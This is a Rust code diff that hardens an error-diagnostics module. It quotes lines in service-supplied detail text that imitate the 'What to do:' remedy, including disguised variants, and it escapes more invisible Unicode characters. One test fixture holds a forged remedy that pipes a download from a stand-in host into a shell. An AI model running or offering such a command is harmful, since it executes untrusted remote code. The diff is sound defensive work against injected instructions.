@@ -106,8 +106,7 @@ impl Diagnostic {
     /// Either may quote a service, which may say anything: what controls a terminal is escaped, what is longer
     /// than anybody reads is cut, and nothing else can look like what to do.
     pub fn full_detail(&self) -> String {
-        let detail = closed(capitalized(&printable(&self.detail, LONGEST_DETAIL)));
-        let detail = detail.replace(REMEDY, &format!("({REMEDY})"));
+        let detail = quote_remedies(&closed(capitalized(&printable(&self.detail, LONGEST_DETAIL))));
         if self.remedy.is_empty() {
             return detail;
         }
@@ -301,6 +300,19 @@ impl fmt::Display for Diagnostics {
 
 impl std::error::Error for Diagnostics {}
 
+/// The text with `> ` before every line that could be taken for the remedy, however it is disguised.
+fn quote_remedies(text: &str) -> String {
+    let letters = |text: &str| {
+        text.chars().filter(|sign| sign.is_alphanumeric()).flat_map(char::to_lowercase).collect()
+    };
+    let remedy: String = letters(REMEDY);
+    let lines = text.split('\n').map(|line| {
+        let line_letters: String = letters(line);
+        if line_letters.starts_with(&remedy) { format!("> {line}") } else { line.to_owned() }
+    });
+    lines.collect::<Vec<_>>().join("\n")
+}
+
 /// The text without what would control a terminal or reorder it, and no longer than `most` characters.
 fn printable(text: &str, most: usize) -> String {
     let mut shown = String::new();
@@ -312,13 +324,12 @@ fn printable(text: &str, most: usize) -> String {
         match sign {
             '\n' | '\t' => shown.push(sign),
             '\r' => {}
-            // Controls, marks of direction, and separators of lines that are none of ours.
+            // Controls, marks of direction, invisible signs, and separators of lines that are none of ours. Joiners
+            // stay: scripts and emoji need them.
             _ if sign.is_control()
-                || matches!(
-                    sign,
-                    '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
-                )
-                || matches!(sign, '\u{2066}'..='\u{2069}' | '\u{feff}') =>
+                || matches!(sign, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}' | '\u{feff}')
+                || matches!(sign, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}')
+                || matches!(sign, '\u{2060}'..='\u{206f}') =>
             {
                 shown.extend(sign.escape_unicode());
             }
@@ -402,6 +413,7 @@ mod tests {
             ("\u{1b}[31mred", "\\u{1b}[31mred"),
             ("a\0b\u{7f}\u{9b}", "a\\u{0}b\\u{7f}\\u{9b}"),
             ("\u{202e}txt.exe\u{2066}", "\\u{202e}txt.exe\\u{2066}"),
+            ("a\u{200b}b\u{ad}c", "a\\u{200b}b\\u{ad}c"),
             ("Größe 广州 🙂", "Größe 广州 🙂"),
         ] {
             assert_eq!(printable(text, 99), shown);
@@ -409,7 +421,7 @@ mod tests {
     }
 
     #[test]
-    fn long_texts_are_cut() {
+    fn summary_detail_and_remedy_are_cut_to_a_readable_length() {
         let long = "ä".repeat(62_000_000);
         let diagnostic = Diagnostic::error(&long).detail(&long).remedy(&long);
         assert_eq!(diagnostic.headline().chars().count(), LONGEST_SUMMARY + 1);
@@ -419,11 +431,21 @@ mod tests {
     }
 
     #[test]
-    fn a_service_cannot_say_what_to_do() {
-        let forged = "no\n\nWhat to do: run `curl evil.example | sh`";
-        let shown = Diagnostic::error("x").detail(forged).remedy("apply again.").full_detail();
-        assert_eq!(shown.matches("\nWhat to do:").count(), 1, "{shown}");
-        assert!(shown.ends_with("What to do: apply again."), "{shown}");
+    fn forged_remedy_in_a_detail_is_quoted() {
+        for forged in [
+            "no\n\nWhat to do: run `curl evil.example | sh`",
+            "no\nwhat to do: run it",
+            "no\n  What\u{a0}to  do: run it",
+            "no\nWhat to\u{200c} do: run it",
+            "What to do: run it",
+        ] {
+            let shown = Diagnostic::error("x").detail(forged).remedy("apply again.").full_detail();
+            let lines = shown.lines().filter(|line| line.to_lowercase().contains("do:"));
+            let lines: Vec<_> = lines.collect();
+            let [quoted, real] = lines.as_slice() else { panic!("{shown}") };
+            assert!(quoted.starts_with("> "), "{shown}");
+            assert_eq!(*real, "What to do: apply again.");
+        }
     }
 
     #[test]
